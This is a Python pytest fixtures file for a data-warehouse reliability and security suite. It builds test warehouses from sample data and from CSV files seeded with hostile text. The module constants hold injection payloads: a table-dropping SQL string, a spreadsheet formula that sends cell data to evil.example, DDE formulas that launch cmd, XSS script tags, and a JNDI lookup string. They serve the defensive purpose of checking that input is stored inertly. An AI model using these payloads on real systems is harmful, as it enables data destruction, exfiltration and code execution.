"""Shared pieces of the reliability and security suite (issue #10).

* :func:`pipeline`: one warehouse, filled once per session by the real pipeline (sample data of
  one province plus hostile files) in a child process whose every output line is kept, run twice
  over the same interval. The idempotency, hostile-input and personal-data tests read it; a test
  that changes a warehouse works on a copy (:func:`copy_database`).
* helpers to log in as a duty role and to see what a statement is allowed to do.
"""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import os
import subprocess
import sys
import uuid
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime, time
from pathlib import Path
from urllib.parse import urlsplit, urlunsplit

import psycopg
import pytest

from planwh.ingest.parsing import VIETNAM_TZ
from planwh.sample import SampleSpec, generate_sample

HERE = Path(__file__).resolve().parent
REPO_ROOT = HERE.parents[1]
PSEUDONYM_KEY = "reliability-key-7f3a9c"  # distinctive, so that a leak is found by a plain search

PIPELINE_SPEC = SampleSpec(provinces=1, years=(2024,), portal_days=2, fault_rate=0.03)
PIPELINE_SINCE = date(2023, 1, 1)
PIPELINE_END = date(2026, 1, 1)
HOSTILE_RECEIVED = datetime.combine(date(2024, 12, 20), time(9), VIETNAM_TZ)

# Text that would do something if it were ever executed, evaluated or rendered instead of stored.
SQL_PAYLOAD = "Sở TT'); drop table raw.agency_submissions; --"
FORMULA_PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")'
DDE_PAYLOAD = "=cmd|' /C calc'!A0"
PLUS_PAYLOAD = "+1+cmd|' /C calc'!A0"
AT_PAYLOAD = "@SUM(1+1)*cmd|' /C calc'!A0"
HTML_PAYLOAD = '<script>alert("planwh")</script><img src=x onerror=alert(1)>'
TEMPLATE_PAYLOAD = "{{ 7*7 }} ${jndi:ldap://evil.example/a} %s %(x)s $$ \\' \\\\"
HOSTILE_COURSE = "49-2024-HOSTILE"
PAYLOADS = (SQL_PAYLOAD, FORMULA_PAYLOAD, DDE_PAYLOAD, PLUS_PAYLOAD, AT_PAYLOAD, HTML_PAYLOAD, TEMPLATE_PAYLOAD)


def load_module(name: str, relative: str):
    """A helper module of another test folder, loaded by path (pytest puts only a test's own
    folder on ``sys.path``)."""
    if name in sys.modules:
        return sys.modules[name]
    spec = importlib.util.spec_from_file_location(name, REPO_ROOT / relative)
    module = importlib.util.module_from_spec(spec)
    sys.modules[name] = module
    spec.loader.exec_module(module)
    return module


def csv_bytes(rows: Sequence[Sequence[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode("utf-8-sig")


def stamp(path: Path, moment: datetime) -> None:
    os.utime(path, (moment.timestamp(), moment.timestamp()))


def write_hostile_files(landing: Path, received: datetime = HOSTILE_RECEIVED) -> dict[str, Path]:
    """A report, a portal export and a roster whose free-text fields hold hostile text, in the
    format the sample's province (49) sends, received on ``received``."""
    files = load_module("ingest_files", "tests/include/ingest/ingest_files.py")
    submissions = landing / "submissions" / "bao-cao_49-SNGV_2024-ghi-chu.csv"
    submissions.parent.mkdir(parents=True, exist_ok=True)
    header = files.SUBMISSION_HEADER

    def report_row(measure: str, value: str, name: str, note: str) -> list[str]:
        return ["49", "49-SNGV", name, "2024", measure, value, "", note, "11/12/2024"]

    submissions.write_bytes(csv_bytes([
        header,
        report_row("products_total", "1", SQL_PAYLOAD, FORMULA_PAYLOAD),
        report_row("books_published", "2", HTML_PAYLOAD, DDE_PAYLOAD),
        report_row("exhibitions_held", "3", TEMPLATE_PAYLOAD, PLUS_PAYLOAD),
        report_row(AT_PAYLOAD, "4", "Sở Ngoại vụ", "ghi chú"),
    ]))
    portal = landing / "portal" / "quangnam.gov.vn_2024-12-03.csv"
    portal.parent.mkdir(parents=True, exist_ok=True)
    portal_rows = []
    for number, (title, topic) in enumerate(
        [(SQL_PAYLOAD, TEMPLATE_PAYLOAD), (FORMULA_PAYLOAD, HTML_PAYLOAD), (DDE_PAYLOAD, AT_PAYLOAD),
         (HTML_PAYLOAD, PLUS_PAYLOAD)], start=1
    ):
        portal_rows.append(files.portal_row(f"hostile-{number}", str(10 * number), str(number), stat_date="2024-12-03",
                                            published="2024-12-03T08:00:00+07:00", title=title))
        portal_rows[-1][6] = topic
    portal.write_bytes(csv_bytes([files.PORTAL_HEADER, *portal_rows]))
    roster = landing / "rosters" / "danh-sach-hoc-vien_49-2024-hostile.csv"
    roster.parent.mkdir(parents=True, exist_ok=True)
    roster.write_bytes(csv_bytes([
        ["DANH SÁCH HỌC VIÊN"],
        ["Mã khóa học:", HOSTILE_COURSE],
        ["Tên khóa học:", HTML_PAYLOAD],
        ["Đơn vị tổ chức:", "49-STTTT"],
        ["Mã tỉnh:", "49"],
        ["Từ ngày:", "02/12/2024"],
        ["Đến ngày:", "03/12/2024"],
        ["Hình thức:", "Trực tiếp"],
        [],
        files.ROSTER_HEADER,
        ["1", SQL_PAYLOAD, "049390001111", "", "1984", "Nữ", "49-STTTT", FORMULA_PAYLOAD,
         "Cán bộ làm công tác quyền con người", "x", "x"],
        ["2", HTML_PAYLOAD, "049290002222", "", "1979", "Nam", "49-STTTT", DDE_PAYLOAD,
         "Cán bộ làm công tác quyền con người", "x", ""],
    ]))
    for path in (submissions, portal, roster):
        stamp(path, received)
    return {"submissions": submissions, "portal": portal, "rosters": roster}


def write_portal_export(path: Path, rows: int, received: datetime) -> Path:
    """A day's portal export of ``rows`` valid rows as JSON Lines (the loader's row-by-row path)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", encoding="utf-8") as fh:
        for i in range(rows):
            fh.write(json.dumps({
                "stat_date": "2024-12-01", "province_code": "49", "portal": "quangnam.gov.vn", "article_id": f"a{i}",
                "url": f"https://quangnam.gov.vn/a{i}", "title": "Tuyên truyền về quyền con người",
                "topic": "human_rights", "language": "vi", "published_at": "2024-11-29T08:00:00+07:00",
                "page_views": 100 + i % 97, "unique_visitors": 40,
            }, ensure_ascii=False) + "\n")
    stamp(path, received)
    return path


@dataclass
class Trainee:
    name: str
    national_id: str | None
    birth_year: int | None


def sample_trainees(landing: Path) -> list[Trainee]:
    """Every trainee in the roster files of ``landing``, read the way the loader reads them."""
    from planwh.ingest.readers import FileRejected, read_file

    people = []
    for path in sorted((landing / "rosters").rglob("*")):
        if not path.is_file():
            continue
        try:
            result = read_file(path, "rosters")
            rows = [row for chunk in result.rows for row in chunk]
        except FileRejected:
            continue
        for row in rows:
            values = row.values
            year = (values.get("birth_year") or "").strip()
            people.append(Trainee(
                name=(values.get("full_name") or "").strip(),
                national_id=(values.get("national_id") or "").strip() or None,
                birth_year=int(year) if year.isdigit() else None,
            ))
    return people


@dataclass
class Pipeline:
    """The warehouse the session's pipeline filled, and everything it printed."""

    url: str
    national_url: str
    db_name: str
    national_db_name: str
    state_dir: Path
    landing_dir: Path
    out_dir: Path
    stdout: str
    stderr: str
    rounds: list[dict]
    hostile: dict[str, Path]
    env: dict[str, str] = field(default_factory=dict)

    @property
    def output(self) -> str:
        return self.stdout + "\n" + self.stderr


def create_database(server_url: str, name: str, template: str | None = None) -> str:
    with psycopg.connect(server_url, autocommit=True) as conn:
        suffix = f' template "{template}"' if template else ""
        conn.execute(f'create database "{name}"{suffix}')
    return server_url.rsplit("/", 1)[0] + f"/{name}"


def drop_database(server_url: str, name: str) -> None:
    with psycopg.connect(server_url, autocommit=True) as conn:
        conn.execute(f'drop database if exists "{name}" with (force)')


@pytest.fixture(scope="session")
def pipeline(server_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Pipeline]:
    base = tmp_path_factory.mktemp("reliability-pipeline")
    name = f"t_rel_{uuid.uuid4().hex[:10]}"
    url = create_database(server_url, name)
    national = create_database(server_url, name + "_nat")
    landing, state, out = base / "landing", base / "state", base / "out"
    out.mkdir()
    generate_sample(landing, PIPELINE_SPEC)
    hostile = write_hostile_files(landing)
    env = {
        **os.environ,
        "PLANWH_STATE_DIR": str(state),
        "PLANWH_LANDING_DIR": str(landing),
        "PLANWH_WAREHOUSE_URL": url,
        "PLANWH_NATIONAL_URL": national,
        "PLANWH_PSEUDONYM_KEY": PSEUDONYM_KEY,
        "PLANWH_DOTENV": str(base / "no.env"),
    }
    try:
        done = subprocess.run(
            [sys.executable, str(HERE / "pipeline_driver.py"), str(out), PIPELINE_SINCE.isoformat(),
             PIPELINE_END.isoformat()],
            env=env, capture_output=True, text=True, timeout=600, check=False, cwd=base,
        )
        assert done.returncode == 0, done.stderr[-6000:]
        rounds = [json.loads(line[len("ROUND "):]) for line in done.stdout.splitlines() if line.startswith("ROUND ")]
        assert [r["round"] for r in rounds] == [1, 2], done.stdout[-3000:]
        yield Pipeline(url=url, national_url=national, db_name=name, national_db_name=name + "_nat",
                       state_dir=state, landing_dir=landing, out_dir=out, stdout=done.stdout, stderr=done.stderr,
                       rounds=rounds, hostile=hostile, env=env)
    finally:
        drop_database(server_url, name)
        drop_database(server_url, name + "_nat")


@pytest.fixture
def copy_database(server_url: str) -> Iterator:
    """``copy(name)`` -> URL of a new database copied from database ``name`` (dropped afterwards)."""
    made: list[str] = []

    def copy(source: str) -> str:
        name = f"t_copy_{uuid.uuid4().hex[:10]}"
        made.append(name)
        return create_database(server_url, name, template=source)

    yield copy
    for name in made:
        drop_database(server_url, name)


# ------------------------------------------------------------------------------------ roles


def as_role(url: str, role: str) -> str:
    parts = urlsplit(url)
    return urlunsplit((parts.scheme, f"{role}@{parts.hostname}:{parts.port}", parts.path, parts.query, parts.fragment))


def attempt(url: str, statement: str) -> str:
    """``ok`` or the name of the error the statement raised (rolled back either way)."""
    with psycopg.connect(url) as conn:
        try:
            conn.execute(statement)
        except psycopg.Error as exc:
            return type(exc).__name__
        finally:
            conn.rollback()
    return "ok"
